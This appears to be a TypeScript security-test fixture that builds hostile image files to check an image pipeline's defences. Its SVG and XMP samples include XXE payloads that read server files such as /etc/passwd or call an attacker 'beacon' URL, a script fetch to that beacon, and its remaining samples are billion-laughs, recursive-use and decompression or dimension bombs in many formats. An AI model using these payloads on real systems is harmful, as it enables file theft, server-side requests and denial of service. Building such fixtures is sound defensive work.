import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { hugePng } from '../bad-files.js';
import { ascii, billionLaughs, hostile, u16be, u16le, u32be, u32le, type HostileFile } from './hostile-file.js';

const svg = (inside: string, attributes = 'width="64" height="64"', prolog = ''): string =>
  `<?xml version="1.0"?>${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;

/** Ten of the one below, nine deep: a billion. */
const uses = Array.from(
  { length: 9 },
  (_, i) => `<g id="u${i + 1}">${`<use xlink:href="#u${i}"/>`.repeat(10)}</g>`,
).join('');

/** `victim` is a file of the server's, `beacon` a URL of the attacker's: neither may be read. */
function drawings(victim: string, beacon: string): HostileFile[] {
  const entity = (target: string) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${target}">]>`;
  return [
    hostile('SVG: XXE of a file', 'a.svg', svg('<text y="20">&x;</text>', undefined, entity(`file://${victim}`))),
    hostile('SVG: XXE of a URL', 'a.svg', svg('<text y="20">&x;</text>', undefined, entity(beacon))),
    hostile('SVG: external DTD', 'a.svg', svg('<rect/>', undefined, `<!DOCTYPE svg SYSTEM "${beacon}">`)),
    hostile('SVG: picture of a URL', 'a.svg', svg(`<image xlink:href="${beacon}" width="9" height="9"/>`)),
    hostile('SVG: picture of a file', 'a.svg', svg(`<image href="file://${victim}" width="9" height="9"/>`)),
    hostile('SVG: style sheet of a URL', 'a.svg', svg(`<style>@import url("${beacon}");</style><rect/>`)),
    hostile('SVG: XInclude', 'a.svg', svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${victim}" parse="text"/>`)), // prettier-ignore
    hostile('SVG: a billion laughs', 'a.svg', svg('<text>&a9;</text>', undefined, billionLaughs('svg'))),
    hostile('SVG: a billion uses', 'a.svg', svg(`<g id="u0"><rect width="1" height="1"/></g>${uses}<use xlink:href="#u9"/>`)), // prettier-ignore
    hostile('SVG: uses itself', 'a.svg', svg('<g id="a"><use xlink:href="#a"/></g>')),
    hostile('SVG: 2 billion wide', 'a.svg', svg('<rect/>', 'width="2000000000" height="2000000000"')),
    hostile('SVG: no size', 'a.svg', svg('<rect/>', 'width="0" height="-1"')),
    hostile('SVG: NaN', 'a.svg', svg('<rect width="NaN" height="1e999"/>', 'width="NaN" viewBox="0 0 0 0"')),
    hostile('SVG: 50,000 deep', 'a.svg', svg('<g>'.repeat(50_000) + '</g>'.repeat(50_000))),
    hostile('SVG: a filter for a day', 'a.svg', svg('<filter id="f"><feTurbulence baseFrequency="9" numOctaves="9999"/><feGaussianBlur stdDeviation="9999"/></filter><rect width="64" height="64" filter="url(#f)"/>')), // prettier-ignore
    hostile('SVG: script', 'a.svg', svg(`<script>fetch("${beacon}")</script><rect width="9" height="9"/>`)),
  ];
}

/** A JPEG with `exif` as its first segment. */
function withExif(jpeg: Buffer, exif: Buffer): Buffer {
  const payload = Buffer.concat([ascii('Exif\0\0'), exif]);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1]), u16be(payload.length + 2), payload, jpeg.subarray(2)]); // prettier-ignore
}

/** TIFF directory entries: tag, type, count, value. */
const ifd = (entries: number[][], next = 0): Buffer =>
  Buffer.concat([
    ascii('II*\0'), u32le(8), u16le(entries.length),
    ...entries.map(([tag = 0, type = 0, count = 0, value = 0]) => Buffer.concat([u16le(tag, type), u32le(count, value)])),
    u32le(next),
  ]); // prettier-ignore

async function metadata(): Promise<HostileFile[]> {
  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: 'red' } })
    .jpeg()
    .toBuffer();
  const exif = (title: string, data: Buffer) => hostile(`EXIF: ${title}`, 'photo.jpg', withExif(jpeg, data));
  const icc = Buffer.concat([ascii('ICC_PROFILE\0'), Buffer.from([1, 255]), u32be(0x7fffffff), ascii('junk')]);
  const xmp = ascii(`http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`);
  const segment = (marker: number, data: Buffer) =>
    Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, marker]), u16be(data.length + 2), data, jpeg.subarray(2)]);
  return [
    exif('orientation 99', ifd([[0x112, 3, 1, 99]])),
    exif('orientation of 4 billion values', ifd([[0x112, 3, 0xffffffff, 0xffffffff]])),
    exif('directory that follows itself', ifd([[0x112, 3, 1, 6]], 8)),
    exif('sub-directory that is its parent', ifd([[0x8769, 4, 1, 8], [0x8825, 4, 1, 8]])), // prettier-ignore
    exif('65,535 entries', Buffer.concat([ascii('II*\0'), u32le(8), u16le(0xffff), Buffer.alloc(60_000, 0xff)])),
    exif('nothing', Buffer.alloc(0)),
    exif('offset past its end', Buffer.concat([ascii('MM\0*'), u32be(0xfffffff0)])),
    hostile('JPEG: ICC profile of 2 GB', 'photo.jpg', segment(0xe2, icc)),
    hostile('JPEG: XMP with XXE', 'photo.jpg', segment(0xe1, xmp)),
    hostile('JPEG: segment of no length', 'photo.jpg', Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xe1, 0, 0]), jpeg.subarray(2)])), // prettier-ignore
    hostile('TIFF: directory that follows itself', 'a.tiff', ifd([[0x100, 3, 1, 8], [0x101, 3, 1, 8]], 8)), // prettier-ignore
    hostile('TIFF: 4 billion strips', 'a.tiff', ifd([[0x100, 4, 1, 60000], [0x101, 4, 1, 60000], [0x111, 4, 0xffffffff, 8], [0x117, 4, 0xffffffff, 8]])), // prettier-ignore
  ];
}

/** Headers that promise more than anybody can pay for. */
function bombs(): HostileFile[] {
  const gif = (width: number, height: number, frames: number) => {
    const frame = Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), u16le(width, height), Buffer.from([0, 2, 2, 0x44, 1, 0])]); // prettier-ignore
    return Buffer.concat([ascii('GIF89a'), u16le(width, height), Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]), ...Array<Buffer>(frames).fill(frame), ascii(';')]); // prettier-ignore
  };
  const chunk = (type: string, data: Buffer, length = data.length) => Buffer.concat([u32be(length), ascii(type), data, u32be(0)]); // prettier-ignore
  const png = ascii('\x89PNG\r\n\x1a\n');
  const header = chunk('IHDR', Buffer.concat([u32be(64, 64), Buffer.from([8, 2, 0, 0, 0])]));
  const sof = (height: number, width: number) => Buffer.concat([Buffer.from([0xff, 0xc0]), u16be(17), Buffer.from([8]), u16be(height, width), Buffer.from([3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1])]); // prettier-ignore
  const webp = Buffer.concat([ascii('RIFF'), u32le(30), ascii('WEBPVP8X'), u32le(10), Buffer.from([2, 0, 0, 0, 255, 255, 255, 255, 255, 255])]); // prettier-ignore
  return [
    hostile('PNG: 40,000 × 40,000', 'a.png', hugePng(40_000, 40_000)),
    hostile('PNG: 2³¹ × 2³¹', 'a.png', hugePng(0x7fffffff, 0x7fffffff)),
    hostile('PNG: 0 × 0', 'a.png', hugePng(0, 0)),
    hostile('PNG: 1 × 90,000', 'a.png', hugePng(1, 90_000)),
    hostile('PNG: a gigabyte of text', 'a.png', Buffer.concat([png, header, chunk('zTXt', Buffer.concat([ascii('c\0\0'), deflateSync(Buffer.alloc(64 << 20))])), chunk('IEND', Buffer.alloc(0))])), // prettier-ignore
    hostile('PNG: chunk of 4 GB', 'a.png', Buffer.concat([png, header, chunk('IDAT', Buffer.alloc(8), 0xffffffff)])),
    hostile('PNG: no pixels', 'a.png', Buffer.concat([png, header, chunk('IEND', Buffer.alloc(0))])),
    hostile('GIF: 65,535 × 65,535', 'a.gif', gif(65_535, 65_535, 1)),
    hostile('GIF: 20,000 frames', 'a.gif', gif(64, 64, 20_000)),
    hostile('GIF: no frame', 'a.gif', gif(64, 64, 0)),
    hostile('JPEG: 65,535 × 65,535', 'a.jpg', Buffer.concat([Buffer.from([0xff, 0xd8]), sof(65_535, 65_535), Buffer.from([0xff, 0xd9])])), // prettier-ignore
    hostile('JPEG: 0 × 0', 'a.jpg', Buffer.concat([Buffer.from([0xff, 0xd8]), sof(0, 0), Buffer.from([0xff, 0xd9])])),
    hostile('JPEG: begins and ends', 'a.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xd9])),
    hostile('WebP: 2²⁴ × 2²⁴', 'a.webp', webp),
    hostile('BMP: 2³¹ × 2³¹', 'a.bmp', Buffer.concat([ascii('BM'), u32le(70, 0, 54, 40, 0x7fffffff, 0x7fffffff), u16le(1, 24), Buffer.alloc(30)])), // prettier-ignore
    hostile('PNM: 99,999 × 99,999', 'a.ppm', 'P6\n99999 99999\n255\n'),
    hostile('AVIF: nothing but its name', 'a.avif', Buffer.concat([u32be(24), ascii('ftypavif'), u32be(0), ascii('avifmif1')])), // prettier-ignore
    hostile('HEIC: nothing but its name', 'a.heic', Buffer.concat([u32be(24), ascii('ftypheic'), u32be(0), ascii('heicmif1')])), // prettier-ignore
    hostile('ICO: 65,535 pictures', 'a.ico', Buffer.concat([u16le(0, 1, 0xffff), Buffer.alloc(64, 0xff)])),
  ];
}

export const hostilePictures = async (victim: string, beacon: string): Promise<HostileFile[]> => [
  ...drawings(victim, beacon),
  ...(await metadata()),
  ...bombs(),
];
